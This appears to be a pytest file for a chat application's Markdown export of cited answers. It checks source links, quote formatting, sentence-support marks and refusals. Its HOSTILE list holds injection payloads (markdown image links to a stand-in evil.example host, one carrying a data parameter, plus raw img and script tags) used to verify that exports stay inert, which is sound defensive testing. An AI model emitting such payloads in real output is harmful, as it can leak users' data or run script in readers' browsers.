"""Answers as Markdown to be taken elsewhere."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import pytest
from markdown_it import MarkdownIt

from chat.answer.export import Cover, answer_markdown, conversation_markdown, inert

BASE = "https://library.example/"
HOSTILE = [
    "![x](http://evil.example/?d=1)",
    "\\![x](http://evil.example/)",
    "!![x](http://evil.example/)",
    "![x][r]\n\n[r]: http://evil.example/",
    "<img src=http://evil.example/>",
    "<script>alert(1)</script>",
    "a <!-- b --> c",
    "```\n![x](http://evil.example/)\n```\n![x](http://evil.example/)",
    "`![x` ](http://evil.example/)",
]


def _citation(n: int = 1, **more: Any) -> dict[str, Any]:
    return {
        "n": n, "title": "The wren", "version": 2, "page": 7, "page_kind": "page",
        "quote": "It lays\nseven eggs.",
        "url": "/documents/x/versions/2/?start=1&end=9#passage",
    } | more  # fmt: skip


def _answer(text: str = "Seven eggs. [1]", **more: Any) -> dict[str, Any]:
    return {
        "question": "How many eggs?", "answer": text, "sentences": [], "citations": [_citation()],
        "refused": False, "state": "complete", "error": None,
    } | more  # fmt: skip


def _sentence(start: int, end: int, verdict: str) -> dict[str, Any]:
    return {"start": start, "end": end, "verdict": verdict}


def _conversation(*answers: dict[str, Any]) -> str:
    when = datetime(2026, 3, 1, 14, 5, tzinfo=UTC)
    return conversation_markdown(Cover("Birds", "ada", f"{BASE}chat/1/", when, BASE), answers)


def _html(markdown: str) -> str:
    return str(MarkdownIt("commonmark", {"html": True}).render(markdown))


def test_a_source_has_number_title_version_page_and_an_absolute_link() -> None:
    link = f"{BASE}documents/x/versions/2/?start=1&end=9#passage"
    assert f"1. [The wren](<{link}>), version 2, page 7" in answer_markdown(_answer(), BASE)


def test_every_line_of_a_quote_is_quoted() -> None:
    assert "   > It lays\n   > seven eggs." in answer_markdown(_answer(), BASE)


def test_a_source_that_cannot_be_read_has_no_link() -> None:
    gone = _citation(title="A source you can no longer read", url=None, quote="", page=None)
    text = answer_markdown(_answer(citations=[gone]), BASE)
    assert "1. A source you can no longer read, version 2\n" in text


def test_a_sentence_that_is_not_carried_is_marked_in_its_place() -> None:
    text = "One.\nTwo. Three."
    sentences = [_sentence(5, 10, "partial"), _sentence(10, 16, "unsupported")]
    shown = answer_markdown(_answer(text, sentences=sentences), BASE)
    assert shown.startswith("One.\nTwo. (~) Three. (?)\n")


def test_the_marks_are_explained_where_they_occur_and_only_there() -> None:
    doubtful = _answer(sentences=[_sentence(0, 11, "partial")])
    assert "(~) The sources carry this sentence only in part." in _conversation(doubtful)
    assert "(~)" not in _conversation(_answer())


def test_a_conversation_names_who_asked_when_it_was_saved_and_each_question() -> None:
    text = _conversation(_answer(), _answer(question="And\nin May?"))
    assert text.startswith("# Birds\n\nAsked by ada. Exported on 1 March 2026, 14:05 UTC from <")
    assert "## How many eggs?" in text
    assert "## And in May?" in text


def test_a_refusal_is_said_to_be_one() -> None:
    refused = _answer("Nothing was found.", refused=True, citations=[])
    text = _conversation(refused)
    assert "*The question was not answered from the documents.*" in text
    assert "Sources" not in text


def test_the_past_that_was_asked_is_told() -> None:
    assert "*As of 2025-01-31*" in _conversation(_answer(as_of="2025-01-31"))


@pytest.mark.parametrize(
    ("state", "words"), [("stopped", "was stopped"), ("failed", "failed"), ("answering", "written")]
)
def test_an_unfinished_answer_is_told_to_be_one(state: str, words: str) -> None:
    assert words in answer_markdown(_answer(state=state), BASE)


def test_a_block_of_code_that_was_cut_off_does_not_swallow_the_sources() -> None:
    html = _html(answer_markdown(_answer("```python\nx = 1"), BASE))
    assert '<a href="https://library.example/documents/x/' in html


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_was_exported_fetches_or_runs_anything(text: str) -> None:
    citation = _citation(title=text, quote=text)
    answer = _answer(text, citations=[citation], question=text)
    html = _html(_conversation(answer))
    assert not any(tag in html for tag in ("<img", "<script", "<!--"))


def test_ordinary_text_is_left_as_it_is() -> None:
    text = "**Bold**, a < b, 3 > 2, `x`, [1], and a list:\n\n- one!\n- [two](https://x.example)"
    assert inert(text) == text


def test_a_source_in_a_presentation_is_on_a_slide() -> None:
    said = answer_markdown(_answer(citations=[_citation(page_kind="slide")]), "https://x.example/")
    assert "version 2, slide 7" in said
